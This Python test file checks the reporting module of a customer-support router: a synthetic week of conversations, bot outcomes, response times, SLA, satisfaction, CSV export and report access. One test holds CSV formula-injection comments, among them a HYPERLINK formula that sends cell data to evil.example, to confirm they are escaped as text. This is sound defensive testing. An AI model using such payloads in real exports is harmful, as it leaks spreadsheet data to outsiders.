"""Reports from a generated history whose answers are counted by hand."""

from __future__ import annotations

import csv
import io
import json
import secrets
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

from channels.base import ChannelAddress
from router.builders import utc_now
from router.calendars import BusinessCalendar
from router.config import CalendarConfig
from router.conversations import AuthorKind, Direction, Priority
from router.desk.sla import SlaPolicies, SlaPolicy, calendar_from
from router.inbox import hash_token
from router.reporting.reports import Report, build_report, heatmap_conversations, percentile
from router.reporting.tables import REPORT_TABLES
from router.storage import Database, ReportFilter
from tests.support.service import make_config, running_service
from tests.test_cli import relaydesk

SHANGHAI = ZoneInfo("Asia/Shanghai")
MONDAY = datetime(2026, 11, 16, tzinfo=SHANGHAI)  # the week of 16-22 November 2026
HOURS = calendar_from("office", CalendarConfig(hours={"daily": "09:00-21:00"}), SHANGHAI)
POLICIES = SlaPolicies(
    policies=(SlaPolicy(name="chat", calendar=HOURS),),
    default=SlaPolicy(name="default", calendar=BusinessCalendar.open_always("d", SHANGHAI)),
)


def at(day: int, hour: int, minute: int = 0) -> datetime:
    return MONDAY + timedelta(days=day, hours=hour, minutes=minute)


class History:
    """Writes conversations as they would have happened."""

    def __init__(self, db: Database) -> None:
        self.db = db
        self.contacts: dict[str, int] = {}

    async def conversation(
        self,
        customer: str,
        when: datetime,
        *,
        channel: str = "webchat",
        bot: list[tuple[str, str]] = (),  # type: ignore[assignment]
        choice: str | None = None,
        handoff: str | None = None,
        agent: int | None = None,
        reply_after: timedelta | None = None,
        resolve_after: timedelta | None = None,
        rating: int | None = None,
        comment: str | None = None,
        ask_rating: bool = False,
    ) -> int:
        async with self.db.write() as repo:
            if customer not in self.contacts:
                self.contacts[customer] = await repo.create_contact(
                    channel=channel, external_id=customer, display_name=None, email=None, now=when
                )
            conversation = await repo.create_conversation(
                contact_id=self.contacts[customer],
                address=ChannelAddress(channel, customer),
                subject=None,
                now=when,
            )
            cid = conversation.id

            async def message(
                direction: Direction, author: AuthorKind, text: str, moment: datetime, **kw: Any
            ) -> None:
                await repo.add_message(
                    conversation_id=cid,
                    direction=direction,
                    author_kind=author,
                    text=text,
                    channel=channel,
                    now=moment,
                    **kw,
                )

            await message(Direction.IN, AuthorKind.CUSTOMER, "question", when)
            for n, (kind, reason) in enumerate(bot, 1):
                moment = when + timedelta(seconds=n)
                await message(
                    Direction.OUT,
                    AuthorKind.BOT,
                    "bot",
                    moment,
                    kind=kind,
                    extras={"reason": reason},
                )
            if choice:
                await message(
                    Direction.IN, AuthorKind.CUSTOMER, "picked", when, extras={"choice": choice}
                )
            if handoff:
                assert await repo.hand_off(cid, priority=Priority.NORMAL, sla_due_at=None, now=when)
                await repo.add_handoff(
                    conversation_id=cid,
                    message_id=None,
                    reason=handoff,
                    language=None,
                    priority=Priority.NORMAL,
                    candidates=[],
                    context={},
                    sla_due_at=None,
                    now=when,
                )
                await repo.set_promise_fields(cid, sla_policy="chat")
                if agent is not None:
                    assert await repo.claim(cid, agent_id=agent, now=when)
                await repo.start_timer(
                    conversation_id=cid,
                    policy="chat",
                    metric="first_response",
                    started_at=when,
                    due_at=HOURS.add(when, timedelta(hours=1)),
                    warn_at=None,
                )
            if reply_after is not None:
                replied = when + reply_after
                for timer in await repo.open_timers(cid, ["first_response"]):
                    assert timer.due_at is not None
                    late = HOURS.between(timer.due_at, replied).total_seconds()
                    await repo.stop_timer(
                        timer.id,
                        now=replied,
                        outcome="met" if late <= 0 else "missed",
                        late_seconds=late,
                    )
            if resolve_after is not None:
                assert await repo.resolve(cid, when + resolve_after)
            if ask_rating or rating is not None:
                await repo.set_promise_fields(cid, survey_asked_at=when + timedelta(hours=2))
            if rating is not None:
                await repo.record_rating(
                    cid, score=rating, comment=comment, now=when + timedelta(hours=3)
                )
            return cid


async def test_every_figure_matches_a_hand_count(database: Database) -> None:
    history = History(database)
    async with database.write() as repo:
        for name in ("Li Wei", "Ana"):
            await repo.add_agent(name=name, token_hash=name * 8, now=MONDAY)
    answer, thanks = ("answer", "match"), ("answer", "thanks")
    # Bot-only: confirmed (thanked after an answer), assumed (answered, never back),
    # came back (answered, wrote again within a day), unanswered (greeting only).
    confirmed = await history.conversation("amy", at(0, 10), bot=[answer, thanks])
    assumed = await history.conversation("ben", at(0, 11), bot=[answer])
    came_back = await history.conversation("cai", at(1, 10), bot=[answer])
    await history.conversation("cai", at(1, 20), bot=[answer, thanks])  # back the same day
    unanswered = await history.conversation("dan", at(2, 9), bot=[("answer", "greeting")])
    clarified = await history.conversation(
        "eve", at(2, 10), bot=[("clarify", "close_candidates")], choice="return-window"
    )
    # Handed to people. Handoff at 20:30 answered at 09:30 next day: 60 open minutes.
    late = await history.conversation(
        "fay",
        at(3, 20, 30),
        handoff="low_confidence",
        agent=1,
        reply_after=timedelta(hours=13),
        resolve_after=timedelta(hours=14),
        rating=2,
        comment="slow",
    )
    quick = await history.conversation(
        "gus",
        at(4, 10),
        channel="email",
        handoff="asked_for_human",
        agent=2,
        reply_after=timedelta(minutes=20),
        resolve_after=timedelta(hours=1),
        rating=5,
    )
    unrated = await history.conversation(
        "hal",
        at(4, 15),
        handoff="asked_for_human",
        agent=2,
        reply_after=timedelta(minutes=40),
        resolve_after=timedelta(hours=1),
        ask_rating=True,
    )
    await history.conversation("old", at(-30, 10), bot=[answer])  # before the period
    ben_again = await history.conversation("ben", at(5, 10), bot=[answer])  # 5 days later

    names = {1: "Li Wei", 2: "Ana"}
    report = await build_report(
        database,
        POLICIES,
        ReportFilter(start=MONDAY, end=MONDAY + timedelta(days=7)),
        zone=SHANGHAI,
        now=MONDAY + timedelta(days=10),
        agent_names=names,
    )
    f = report.figures
    assert f["volume"]["conversations"] == 10
    assert f["volume"]["by_channel"] == {"email": 1, "webchat": 9}
    assert f["volume"]["contacts"] == {"new": 8, "returning": 0}  # ben and cai: one each
    assert f["volume"]["messages_by_channel"] == {"email": 1, "webchat": 10}  # + eve's pick
    assert [0, 10, 1] in f["volume"]["heatmap"]  # Monday 10:00, Amy
    week = ReportFilter(start=MONDAY, end=MONDAY + timedelta(days=7))
    # A cell's conversations are read when asked for; Wednesday 10:00 is Eve's question
    # and her pick, one conversation.
    assert await heatmap_conversations(database, week, "0-10", zone=SHANGHAI) == [confirmed]
    assert await heatmap_conversations(database, week, "2-10", zone=SHANGHAI) == [clarified]
    assert await heatmap_conversations(database, week, "2-11", zone=SHANGHAI) == []
    for nonsense in ("7-10", "0-24", "x", "-1-3", "٣-10"):
        assert await heatmap_conversations(database, week, nonsense, zone=SHANGHAI) == []

    bot = f["bot"]
    assert bot["outcomes"] == {
        "confirmed": 2,  # amy, cai's second
        "assumed": 2,  # ben's first (he came back 5 days later: outside the day), ben again
        "pending": 0,
        "came_back": 1,  # cai's first
        "unanswered": 2,  # dan (greeting), eve (left after the clarification)
        "handed_off": 3,
    }
    assert sum(bot["outcomes"].values()) == 10
    assert bot["confirmed_rate"] == 2 / 10 and bot["assumed_rate"] == 2 / 10
    assert bot["handoffs_by_reason"] == {"asked_for_human": 2, "low_confidence": 1}
    assert bot["clarifications"] == 1 and bot["choices_taken"] == {"return-window": 1}
    assert sorted(report.conversations("bot_outcome", "confirmed")) == [confirmed, confirmed + 3]
    assert report.conversations("bot_outcome", "came_back") == [came_back]
    assert report.conversations("bot_outcome", "assumed") == [assumed, ben_again]
    assert sorted(report.conversations("bot_outcome", "unanswered")) == [unanswered, clarified]

    times = f["people"]["times"]["first_response"]
    assert times["all"]["count"] == 3
    # Open-time minutes: fay 60 (30 before closing, 30 after opening), gus 20, hal 40.
    assert times["all"]["p50"] == 40 * 60 and times["all"]["p90"] == 60 * 60
    assert times["by_agent"]["Li Wei"]["p50"] == 60 * 60
    assert times["by_channel"]["email"]["count"] == 1
    sla = f["people"]["sla"]
    assert sla["by_policy"]["chat"] == {"met": 3, "missed": 0, "rate": 1.0}
    backlog = dict(f["people"]["backlog"])
    assert backlog["2026-11-19"] == 1  # fay, handed off Thursday 20:30, resolved Friday

    satisfaction = f["satisfaction"]
    assert (satisfaction["asked"], satisfaction["rated"]) == (3, 2)
    assert satisfaction["average"] == 3.5 and satisfaction["response_rate"] == 2 / 3
    assert satisfaction["distribution"] == {"1": 0, "2": 1, "3": 0, "4": 0, "5": 1}
    assert satisfaction["by_agent"]["Li Wei"] == {"rated": 1, "average": 2.0}
    assert satisfaction["comments"] == [{"conversation": late, "score": 2, "comment": "slow"}]
    assert report.conversations("csat_score", "5") == [quick]
    assert unrated not in report.conversations("csat_score", "5")
    assert "rated,average" in report.csv("satisfaction").splitlines()[0]


async def test_a_comment_written_as_a_formula_is_text_in_the_csv(database: Database) -> None:
    """A survey comment is the customer's text: a spreadsheet must never run it."""
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    history = History(database)
    for n, comment in enumerate([formula, "\t=1+1", "@SUM(A1)", "-2+3", "fine, thanks"]):
        await history.conversation(
            f"c{n}",
            at(0, 10 + n),
            handoff="asked_for_human",
            reply_after=timedelta(minutes=5),
            resolve_after=timedelta(minutes=9),
            rating=1 + n % 5,
            comment=comment,
        )
    report = await build_report(
        database,
        POLICIES,
        ReportFilter(start=MONDAY, end=MONDAY + timedelta(days=7)),
        zone=SHANGHAI,
        now=MONDAY + timedelta(days=10),
        agent_names={},
    )
    cells = [row[2] for row in csv.reader(io.StringIO(report.csv("comments")))][1:]
    assert sorted(cells) == sorted(["'" + formula, "'=1+1", "'@SUM(A1)", "'-2+3", "fine, thanks"])
    scores = [row[1] for row in csv.reader(io.StringIO(report.csv("comments")))][1:]
    assert all(s.isdigit() for s in scores), "numbers stay numbers"


async def test_filters_narrow_every_figure(database: Database) -> None:
    history = History(database)
    await history.conversation("amy", at(0, 10), bot=[("answer", "match")])
    await history.conversation("gus", at(0, 11), channel="email", handoff="asked_for_human")
    report = await build_report(
        database,
        POLICIES,
        ReportFilter(start=MONDAY, end=MONDAY + timedelta(days=7), channel="email"),
        zone=SHANGHAI,
        now=MONDAY + timedelta(days=10),
        agent_names={},
    )
    assert report.figures["volume"]["conversations"] == 1
    assert report.figures["bot"]["outcomes"]["handed_off"] == 1


def test_percentiles_are_nearest_rank() -> None:
    assert percentile([], 0.5) is None
    assert percentile([3.0, 1.0, 2.0], 0.5) == 2.0
    assert percentile([float(n) for n in range(1, 11)], 0.9) == 9.0


async def test_leads_and_admins_see_the_reports_agents_do_not(tmp_path: Path) -> None:
    async with running_service(tmp_path, overrides={"sla": {"timezone": "Asia/Shanghai"}}) as svc:
        await svc.add_agent("ana")
        lead = secrets.token_urlsafe(24)
        async with svc.db.write() as repo:
            await repo.add_agent(
                name="lead", token_hash=hash_token(lead), now=utc_now(), role="lead"
            )
        svc.tokens["lead"] = lead
        memory = svc.memory
        await memory.inject(memory.message("How long is the warranty?", external_id="r1"))
        await memory.inject(memory.message("talk to a person", external_id="r2", sender="b"))
        status, error = await svc.api("ana", "GET", "/api/agent/reports")
        assert status == 403 and error["error"]["code"] == "forbidden"
        status, report = await svc.api("lead", "GET", "/api/agent/reports")
        assert status == 200 and report["volume"]["conversations"] == 2
        assert report["bot"]["handoffs_by_reason"] == {"asked_for_human": 1}
        assert "en" in report["definitions"]["bot_assumed"]
        status, behind = await svc.api(
            "lead",
            "GET",
            "/api/agent/reports/conversations?figure=handoff_reason&key=asked_for_human",
        )
        assert status == 200 and [c["status"] for c in behind["conversations"]] == ["queued"]
        headers = {"Authorization": f"Bearer {lead}"}
        async with svc.client.get(
            "/api/agent/reports/handoffs_by_reason.csv", headers=headers
        ) as response:
            assert response.status == 200 and response.content_type == "text/csv"
            assert (await response.text()).splitlines() == [
                "reason,conversations",
                "asked_for_human,1",
            ]
        for bad in ("from=yesterday", "from=2026-11-10&to=2026-11-01", "agent=x"):
            status, error = await svc.api("lead", "GET", f"/api/agent/reports?{bad}")
            assert status == 400 and error["error"]["code"] == "invalid_query"


def test_the_documented_csv_tables_are_the_reports_tables() -> None:
    report = Report(figures={})
    assert list(REPORT_TABLES) == [
        "volume_by_channel",
        "heatmap",
        "bot_outcomes",
        "handoffs_by_reason",
        "response_times",
        "sla_attainment",
        "backlog",
        "satisfaction",
        "comments",
    ]
    assert report.conversations("none", "none") == []


def test_relaydesk_report_prints_json_and_csv(tmp_path: Path) -> None:
    make_config(tmp_path)
    config = str(tmp_path / "config.yaml")
    as_json = relaydesk("--config", config, "report", "--from", "2026-11-01", "--to", "2026-11-07")
    assert as_json.returncode == 0, as_json.stderr
    figures = json.loads(as_json.stdout)
    assert figures["volume"]["conversations"] == 0
    assert figures["period"]["from"].startswith("2026-11-01")
    as_csv = relaydesk("--config", config, "report", "--format", "csv", "--table", "backlog")
    assert as_csv.returncode == 0, as_csv.stderr
    assert as_csv.stdout.splitlines()[0] == "date,open_with_people"
    assert len(as_csv.stdout.splitlines()) == 8  # a week, one line a day
    wrong = relaydesk("--config", config, "report", "--from", "2026-13-01")
    assert wrong.returncode == 2 and "--from/--to" in wrong.stderr
